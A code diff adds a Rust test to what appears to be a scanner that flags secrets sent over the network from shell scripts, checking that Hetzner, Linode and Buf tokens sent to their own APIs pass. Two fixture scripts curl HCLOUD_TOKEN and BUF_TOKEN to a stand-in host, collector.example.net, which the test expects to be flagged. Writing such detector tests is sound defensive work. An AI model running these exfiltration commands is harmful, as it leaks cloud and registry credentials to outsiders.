@@ -180,6 +180,26 @@ fn a_function_only_called_for_its_value_prints_nothing() {
     crate::has_rule(&report, "secret-to-network");
 }
 
+/// Hetzner Cloud's, Linode's and the Buf registry's tokens sent to their own documented APIs
+/// (or handed to their own CLI) are used, not leaked; the same tokens elsewhere are not.
+#[test]
+fn cloud_and_schema_registry_tokens_to_their_own_apis() {
+    for code in [
+        "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsS -H \"Authorization: Bearer ${HCLOUD_TOKEN:?}\" https://api.hetzner.cloud/v1/servers -o build/servers.json\n",
+        "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsS -H \"Authorization: Bearer ${LINODE_CLI_TOKEN:?}\" https://api.linode.com/v4/linode/instances -o build/linodes.json\n",
+        "#!/usr/bin/env bash\nset -euo pipefail\n[[ -n \"${BUF_TOKEN:-}\" ]] || { echo 'BUF_TOKEN is not set' >&2; exit 1; }\nbuf push proto\n",
+    ] {
+        crate::verdict(Language::Shell, code, Clean);
+    }
+    for code in [
+        "#!/usr/bin/env bash\ncurl -fsS -H \"Authorization: Bearer ${HCLOUD_TOKEN:?}\" https://collector.example.net/v1/servers\n",
+        "#!/usr/bin/env bash\ncurl -fsS -d \"token=${BUF_TOKEN:?}\" https://collector.example.net/in\n",
+    ] {
+        let report = crate::verdict(Language::Shell, code, Dangerous);
+        crate::has_rule(&report, "secret-to-network");
+    }
+}
+
 /// The call of the script's own function walked with its values: its body's statements are
 /// judged one by one, so the call line is not judged again as an unknown program reading the
 /// `.env` it names.
